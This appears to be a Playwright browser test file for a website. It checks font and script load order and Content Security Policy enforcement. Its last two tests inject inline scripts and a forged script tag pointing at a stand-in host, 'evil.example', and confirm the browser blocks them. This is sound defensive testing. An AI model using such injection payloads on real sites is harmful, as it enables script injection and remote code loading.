"""What a browser makes of the one script that stands in a page: text first, then the face and the other scripts."""

import pytest

from tests.browser.opening import opened

PAGE = "/brands/lifa-xieshang/"
TIMES = """() => {
  const painted = performance.getEntriesByName("first-paint")[0].startTime;
  const asked = performance.getEntriesByType("resource").filter(({ name }) => /(\\.js|display\\.woff2)$/.test(name));
  return asked.map(({ name, startTime }) => [name.split("/").pop(), startTime > painted]);
}"""
# Browsers of three kinds: one that never paints, one that does not tell of it, one that keeps nothing for us.
UNPAINTED = "window.PerformanceObserver = class { static supportedEntryTypes = ['paint']; observe() {} };"
UNTOLD = "Object.defineProperty(PerformanceObserver, 'supportedEntryTypes', { value: [] });"
CLOSED = "Object.defineProperty(window, 'sessionStorage', { get() { throw new DOMException('closed'); } });"
INJECTED = """(words) => {
  const script = document.createElement("script");
  script.textContent = words;
  document.body.append(script);
}"""


def asked_for(page):
    """The names of the scripts and fonts that a page has asked for."""
    return sorted(name for name, _ in page.evaluate(TIMES.replace("painted = ", "painted = 0 && ")))


@pytest.mark.long
def test_the_face_and_the_scripts_are_asked_for_after_the_first_paint_in_their_order(page):
    opened(page, PAGE)
    asked = page.evaluate(TIMES)
    assert sorted(asked) == [["cite.js", True], ["display.woff2", True], ["evidence.js", True]]
    scripts = page.evaluate("[...document.querySelectorAll('head > script[src]')].map((one) => [one.src, one.async])")
    assert [(src.rpartition("/")[2], waits) for src, waits in scripts] == [("evidence.js", False), ("cite.js", False)]


def test_nothing_is_asked_for_before_the_page_is_painted(page):
    page.add_init_script(UNPAINTED)
    page.goto(PAGE, wait_until="networkidle")
    assert asked_for(page) == []


def test_once_the_face_is_kept_all_come_at_once(page):
    opened(page, "/")
    page.add_init_script(UNPAINTED)
    opened(page, PAGE)
    assert asked_for(page) == ["cite.js", "display.woff2", "evidence.js"]


@pytest.mark.parametrize("lacking", [UNTOLD, CLOSED], ids=["paint entries", "storage"])
def test_a_browser_that_lacks_something_has_them_too(page, lacking):
    said = []
    page.on("pageerror", lambda error: said.append(str(error)))
    page.add_init_script(lacking)
    opened(page, PAGE)
    assert (asked_for(page), said) == (["cite.js", "display.woff2", "evidence.js"], [])


def test_the_second_slice_comes_after_the_first_and_only_where_a_page_has_words_of_it(page):
    later = "performance.getEntriesByType('resource').filter(({ name }) => /display-late|display-hant/.test(name))"
    opened(page, PAGE)
    page.wait_for_load_state("networkidle")
    assert page.evaluate(f"{later}.length") == 1
    first = "performance.getEntriesByType('resource').find(({ name }) => /display.woff2/.test(name))"
    assert page.evaluate(f"{later}[0].startTime > {first}.startTime")
    opened(page, "/zh-hant/about/")
    page.wait_for_load_state("networkidle")
    assert page.evaluate(f"{later}.map(({{ name }}) => name.split('/').pop())") == [
        "display-late.woff2",
        "display-hant.woff2",
    ]


def test_a_letter_that_was_published_since_the_release_asks_for_the_slice_of_the_record(page):
    opened(page, "/about/")
    with page.expect_response("**/face.woff2") as asked:
        page.evaluate("document.querySelector('h1').append('饕')")
    assert asked.value.headers["content-type"] == "font/woff2"


def test_a_page_without_scripts_of_its_own_has_the_face(page):
    opened(page, "/about/")
    assert asked_for(page) == ["display.woff2"]


def test_an_inline_script_that_is_not_ours_does_not_run(page):
    said = []
    page.on("console", lambda message: said.append(message.text))
    opened(page, PAGE)
    page.evaluate(INJECTED, "window.injected = true")
    own = page.evaluate("document.querySelector('script[data-scripts]').textContent")
    page.evaluate(INJECTED, f"{own};window.injected = true")
    assert page.evaluate("window.injected") is None
    assert [words.startswith("Executing inline script violates") for words in said] == [True, True]


def test_our_own_script_put_in_again_brings_nothing_from_elsewhere(page):
    opened(page, PAGE)
    with page.expect_event("requestfailed") as refused:
        page.evaluate(
            """() => {
              const own = document.querySelector("script[data-scripts]");
              const forged = document.createElement("script");
              const scripts = "data:,injected=1 https://evil.example/";
              Object.assign(forged.dataset, { ...own.dataset, scripts });
              forged.textContent = own.textContent;
              document.body.append(forged);
            }"""
        )
    assert (refused.value.url, refused.value.failure) == ("https://evil.example/", "csp")
    assert page.evaluate("window.injected") is None
